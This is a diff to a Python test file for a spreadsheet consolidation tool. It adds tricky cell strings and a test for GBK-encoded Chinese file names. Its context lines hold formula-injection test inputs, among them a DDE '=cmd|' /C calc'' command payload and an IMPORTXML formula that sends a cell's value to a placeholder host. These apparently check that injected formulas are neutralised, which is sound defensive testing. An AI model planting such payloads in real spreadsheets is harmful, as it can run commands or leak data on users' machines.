@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import os
 import shutil
 import sys
 import zipfile
@@ -28,7 +29,8 @@ DAY = H.TODAY - dt.timedelta(days=1)
 FORMULAS = ['=HYPERLINK("http://x","点我")', "+1+1", "-2+3", "@SUM(A1)", "=1+1", "'=quoted",
             "=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x/?",A1),"//a")']
 ODD = ["客户😀🎉 👨‍👩‍👧", "עברית ‏RTL‏", "e\u0301 \u200b zero-width", "line one\nline two", "tab\tinside",
-       "#NAME?x", "0001234", "1e5", "TRUE", "NaN", "None", "长" * 32_767]
+       "#NAME?x", "0001234", "1e5", "TRUE", "NaN", "None", "长" * 32_767,
+       "<r>a&b</r>", "<r><t>x</t></r>"]  # the shape xlsxwriter takes for rich text, left unescaped
 # Control characters cannot be typed into openpyxl; Excel stores them as _xHHHH_ escapes.
 CONTROLS = {"CTRL1": "a\x01b", "CTRL2": "bell\x07", "CTRL3": "\x1b[31mred\x1b[0m", "CTRL4": "del\x7f",
             "CTRL5": "unit\x1fseparator"}
@@ -108,6 +110,17 @@ def test_odd_file_names_are_kept_exactly(office, name):
     assert set(log["source"]) == {name, f"{Path(name).stem} - 副本.xlsx"} and log["copy_of"].dropna().tolist() == [name]
     again = consolidate.run_consolidation(config.load(office), today=H.TODAY)
     assert [f.status for f in again.files] == ["unchanged", "copy"] and again.written == []
+
+
+def test_a_name_in_another_encoding_is_read_as_people_read_it(office):
+    """A zip made on a Chinese Windows, unpacked on Linux: the name's GBK bytes arrive as lone
+    surrogates, which the master cannot hold. The report is taken, under its readable name."""
+    path = report(office, "placeholder.xlsx", ["王先生"])
+    name = os.fsdecode("张伟.xlsx".encode("gbk"))
+    path.rename(path.with_name(name))
+    outcome = consolidate.run_consolidation(config.load(office), today=H.TODAY)
+    assert [(f.source, f.status) for f in outcome.files] == [("张伟.xlsx", "accepted")]
+    assert ledger(office)["source"].tolist() == ["张伟.xlsx"]
 
 
 # ---------------------------------------------------------------- beyond Excel's cell limit
